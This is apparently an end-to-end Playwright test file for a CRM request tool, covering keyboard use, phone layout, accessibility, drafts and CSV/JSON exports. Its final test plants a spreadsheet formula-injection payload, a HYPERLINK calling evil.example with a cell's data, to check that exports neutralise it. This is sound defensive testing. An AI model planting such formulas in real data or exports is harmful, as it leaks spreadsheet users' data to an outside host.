"""Daily use: keyboard-only sending and reading, a phone-sized window, axe on the main pages."""

from __future__ import annotations

import csv
import io
import json
import re
import time
from pathlib import Path
from typing import TYPE_CHECKING, Any, Literal

import pytest
from playwright.sync_api import Page, ViewportSize, expect
from sqlmodel import Session

from playground.onoffice.actions import ActionRequest, Verb
from playground.onoffice.envelope import build_envelope, encode_body
from playground.sandbox import DEMO_SECRET, DEMO_TOKEN
from playground.store import markers
from playground.store.db import make_engine
from tests.e2e.e2e_support import create_sandbox_profile, follow

if TYPE_CHECKING:
    from tests.e2e.conftest import Ui

pytestmark = pytest.mark.e2e

AXE = Path(__file__).parent / "vendor" / "axe-core-4.14.1.min.js"
PHONE: ViewportSize = {"width": 390, "height": 844}
LAPTOP: ViewportSize = {"width": 1366, "height": 800}


def _answer_id(page: Page) -> str | None:
    shown = page.locator("#response [data-testid=response]")
    return shown.get_attribute("data-entry-id") if shown.count() else None


def _wait_for_new_answer(page: Page, before: str | None) -> None:
    shown = page.locator("#response [data-testid=response]")
    if before is None:
        expect(shown).to_be_visible()
    else:
        expect(shown).not_to_have_attribute("data-entry-id", before)


def test_keyboard_only_send_read_and_shortcuts(logged_in: Page, ui: Ui) -> None:
    page = logged_in
    page.set_viewport_size(LAPTOP)
    params = page.locator("#parameters-0")
    params.focus()
    # Ctrl+Enter in the parameters sends; from the parameters, three keys reach the answer.
    page.keyboard.press("Control+Enter")
    _wait_for_new_answer(page, None)
    params.focus()
    keys = ["Escape", "Tab", "Enter"]
    for key in keys:
        page.keyboard.press(key)
    assert len(keys) <= 3
    expect(page.locator("#response [role=tab][aria-selected=true]")).to_be_focused()
    page.keyboard.press("ArrowRight")
    expect(page.get_by_test_id("raw-json")).to_be_visible()
    # Ctrl+Enter sends from anywhere on the page, here from the template search.
    before = _answer_id(page)
    page.get_by_label("Search templates").focus()
    page.keyboard.press("Control+Enter")
    _wait_for_new_answer(page, before)
    # A JSON error appearing under the parameters moves nothing below it.
    send = page.get_by_test_id("send")
    before_box = send.bounding_box()
    params.fill('{"data": [')
    expect(page.get_by_test_id("parameters-error").first).not_to_be_empty()
    assert send.bounding_box() == before_box
    # "?" lists the shortcuts (not while typing), Escape closes the list.
    page.evaluate("document.activeElement.blur()")
    page.keyboard.press("?")
    dialog = page.get_by_test_id("shortcuts")
    expect(dialog).to_be_visible()
    expect(dialog).to_contain_text("Ctrl")
    page.keyboard.press("Escape")
    expect(dialog).to_be_hidden()
    # A protected profile gets its band as soon as it is picked, and loses it when left.
    create_sandbox_profile(
        page, ui.server.url("/profiles"), "Production", token=DEMO_TOKEN, secret=DEMO_SECRET,
        protected=True,
    )  # fmt: skip
    page.goto(ui.server.url("/"))
    band = page.get_by_test_id("protected-band")
    expect(band).to_be_hidden()
    page.get_by_label("Profile", exact=True).select_option(
        label="Production · sandbox · v2 · protected"
    )
    expect(band).to_be_visible()
    expect(band).to_contain_text("Production")
    page.get_by_label("Profile", exact=True).select_option(label="Sandbox · sandbox · v2")
    expect(band).to_be_hidden()


def _axe_serious(page: Page) -> list[Any]:
    """Serious and critical axe-core violations of the page as it is now."""
    page.add_script_tag(url="/test-only/axe.min.js")
    result = page.evaluate("() => axe.run(document, {resultTypes: ['violations']})")
    return [
        (v["id"], v["impact"], [n["target"] for n in v["nodes"]][:3])
        for v in result["violations"]
        if v["impact"] in ("serious", "critical")
    ]


def test_phone_journey_and_axe_on_the_main_pages(logged_in: Page, ui: Ui) -> None:
    page = logged_in
    # The CSP forbids inline scripts: axe-core is served from the page's own origin.
    page.route(
        "**/test-only/axe.min.js",
        lambda route: route.fulfill(path=AXE, content_type="text/javascript"),
    )
    page.set_viewport_size(PHONE)
    # A failed send first: its long verdict must wrap on the pages, not widen them.
    page.locator("#parameters-0").fill('{"data": ["Id", "no_such_field_at_all"]}')
    page.get_by_test_id("send").click()
    _wait_for_new_answer(page, None)
    expect(page.get_by_test_id("top-status")).to_contain_text("1 of 1 action failed: 143")
    before = _answer_id(page)
    page.locator("#parameters-0").fill('{"data": ["Id"], "listlimit": 3}')
    page.get_by_test_id("send").click()
    _wait_for_new_answer(page, before)
    # After Send the answer's top is on screen, without scrolling by hand.
    answer = page.locator("#response [data-testid=response]")
    expect(answer).to_be_in_viewport()
    entry = answer.get_attribute("data-entry-id")
    pages = ["/", "/history", f"/history/{entry}", "/saved", "/profiles", "/account"]
    pages += ["/variables", f"/history/compare?a={before}&b={entry}"]
    problems: dict[str, Any] = {}
    # Each width in the light scheme, and the dark one once: its colours (what it changes
    # for axe) are the same at every width.
    for size, dark in ((PHONE, False), (LAPTOP, False), (LAPTOP, True)):
        scheme: Literal["dark", "light"] = "dark" if dark else "light"
        page.set_viewport_size(size)
        page.emulate_media(color_scheme=scheme)
        for path in pages:
            page.goto(ui.server.url(path))
            where = f"{path} {size['width']} {scheme}"
            width = page.evaluate("document.documentElement.scrollWidth")
            if width > size["width"]:
                problems[where + " overflow"] = width
            found = _axe_serious(page)
            if found:
                problems[where] = found
    assert problems == {}


def test_nothing_lost_drafts_template_undo_and_asking_before_delete(
    logged_in: Page, ui: Ui
) -> None:
    page = logged_in
    mine = '{"data": ["Id", "ort"], "listlimit": 7}'
    params = page.locator("#parameters-0")
    params.fill(mine)
    # The draft survives following a link and coming back, a reload, and Back.
    follow(page, page.get_by_role("link", name="History", exact=True))
    follow(page, page.get_by_role("link", name="Composer", exact=True))
    expect(params).to_have_value(mine)
    page.reload()
    expect(params).to_have_value(mine)
    follow(page, page.get_by_role("link", name="Saved", exact=True))
    page.go_back()
    expect(params).to_have_value(mine)
    # A template over edited parameters offers to undo; Undo brings them back.
    ui.pick_template(page, "read estate", "Read estates")
    expect(page.get_by_test_id("undo-note")).to_be_visible()
    expect(params).not_to_have_value(mine)
    page.get_by_test_id("undo-note").get_by_role("button", name="Undo").click()
    expect(params).to_have_value(mine)
    expect(page.get_by_test_id("undo-note")).to_have_count(0)
    # "New request" starts from the default again, and stays so after a reload.
    follow(page, page.get_by_test_id("new-request"))
    expect(params).not_to_have_value(mine)
    page.reload()
    expect(params).not_to_have_value(mine)
    # Deleting a history entry asks first: "no" keeps it, "yes" removes it.
    ui.send(page)
    page.goto(ui.server.url("/history"))
    rows = page.get_by_test_id("history-row")
    expect(rows).to_have_count(1)
    page.once("dialog", lambda dialog: dialog.dismiss())
    rows.first.get_by_role("button", name="Delete").click()
    expect(rows).to_have_count(1)
    page.once("dialog", lambda dialog: dialog.accept())
    rows.first.get_by_role("button", name="Delete").click()
    expect(rows).to_have_count(0)
    assert ui.history(page) == []


def test_reading_an_answer_sort_copy_csv_and_search(logged_in: Page, ui: Ui) -> None:
    page = logged_in
    page.locator("#parameters-0").fill('{"data": ["Id", "ort"], "listlimit": 6}')
    ui.send(page)
    table = page.get_by_test_id("records").first
    ids = table.locator("tbody tr td:first-child")
    expect(ids).to_have_count(6)
    shown = [int(t) for t in ids.all_inner_texts()]
    # A heading sorts: descending on the second click, with aria-sort saying so.
    heading = table.locator("th button[data-sort]").first
    expect(heading).to_have_text("Id")
    heading.click()
    heading.click()
    expect(table.locator("th").first).to_have_attribute("aria-sort", "descending")
    assert [int(t) for t in ids.all_inner_texts()] == sorted(shown, reverse=True)
    # A click on a cell copies it and says so.
    ids.first.click()
    expect(page.locator("[data-copied]").first).to_contain_text(str(max(shown)))
    # The shown records as a CSV file, heading first.
    with page.expect_download() as download:
        page.get_by_test_id("download-csv").first.click()
    lines = Path(download.value.path()).read_text(encoding="utf-8-sig").splitlines()
    assert lines[0] == "Id,ort" and len(lines) == 7
    # "Next page" re-sends with listoffset moved on: the next six records.
    before = _answer_id(page)
    page.get_by_test_id("next-page").first.click()
    _wait_for_new_answer(page, before)
    expect(page.locator("#parameters-0")).to_have_value(re.compile(r'"listoffset": 6'))
    following = [int(t) for t in ids.all_inner_texts()]
    assert len(following) == 6 and not set(following) & set(shown)
    # "All pages" fetches every record (listoffset by listoffset) and saves them as one file.
    total = int(re.sub(r"\D", "", page.get_by_test_id("cntabsolute").first.inner_text()))
    page.get_by_test_id("all-pages").first.click()
    expect(page.get_by_test_id("all-pages-status").first).to_contain_text("records fetched")
    expect(page.get_by_test_id("all-pages-progress").first).to_have_js_property("value", total)
    with page.expect_download() as download:
        page.get_by_test_id("all-pages-json").first.click()
    records = json.loads(Path(download.value.path()).read_text(encoding="utf-8"))
    assert len(records) == total and len({r["id"] for r in records}) == total
    # Searching the JSON marks the matches and counts them.
    page.get_by_role("tab", name="JSON").first.click()
    page.get_by_test_id("json-find").fill('"ort"')
    expect(page.get_by_test_id("json-count")).to_contain_text("6 matches")
    expect(page.get_by_test_id("raw-json").locator("mark")).to_have_count(6)
    # Collapse all folds the JSON to its top level; Expand all opens every level.
    page.get_by_test_id("json-collapse").first.click()
    tree = page.get_by_test_id("json-tree")
    expect(tree).to_be_visible()
    expect(page.get_by_test_id("raw-json")).to_be_hidden()
    expect(tree.locator("details[open]")).to_have_count(1)
    page.get_by_test_id("json-expand").first.click()
    expect(tree.locator("details:not([open])")).to_have_count(0)
    assert tree.locator("details").count() > 10


def _csv_rows(page: Page, test_id: str) -> list[list[str]]:
    """The cells of the CSV file a download button of the answer saves."""
    with page.expect_download() as download:
        page.get_by_test_id(test_id).first.click()
    text = Path(download.value.path()).read_text(encoding="utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_a_formula_in_an_answer_reaches_a_csv_file_as_text(
    logged_in: Page, ui: Ui, database_url: str
) -> None:
    # An answer holds whatever anyone wrote into the CRM (a website form's enquiry, say; in
    # the sandbox anyone who knows its public demo credentials). A spreadsheet opening the
    # CSV ran a cell starting with = as a formula: here one that sends the row elsewhere.
    page = logged_in
    formula = '=HYPERLINK("https://evil.example/?"&B2,"Details")'
    plant = ActionRequest(
        Verb.MODIFY, "estate", resourceid="1", parameters={"data": {"objekttitel": formula}}
    )
    envelope = build_envelope(
        [plant], token=DEMO_TOKEN, secret=DEMO_SECRET, timestamp=int(time.time())
    )
    sandbox = ui.server.url("/sandbox/api/stable/api.php")
    try:
        answer = page.request.post(sandbox, data=encode_body(envelope))
        assert answer.json()["status"]["errorcode"] == 0
        two = {"Id": [{"op": "in", "val": [1, 2]}]}
        read = {"data": ["Id", "objekttitel"], "filter": two, "sortby": {"Id": "ASC"}}
        page.locator("#parameters-0").fill(json.dumps(read | {"listlimit": 1}))
        ui.send(page)
        assert _csv_rows(page, "download-csv")[1] == ["1", "'" + formula]
        page.get_by_test_id("all-pages").first.click()
        expect(page.get_by_test_id("all-pages-status").first).to_contain_text("records fetched")
        assert ["1", "1", "'" + formula] in _csv_rows(page, "all-pages-csv")
    finally:  # the sandbox's estates as the other tests on this server expect them
        engine = make_engine(database_url)
        with Session(engine) as db:
            markers.raise_counter(db, name=markers.SANDBOX_RESET)
        engine.dispose()
        # It starts over at its next request: one now, before the next test's clean-up
        # takes the counter back with every other row.
        page.request.post(sandbox, data=b"{}")
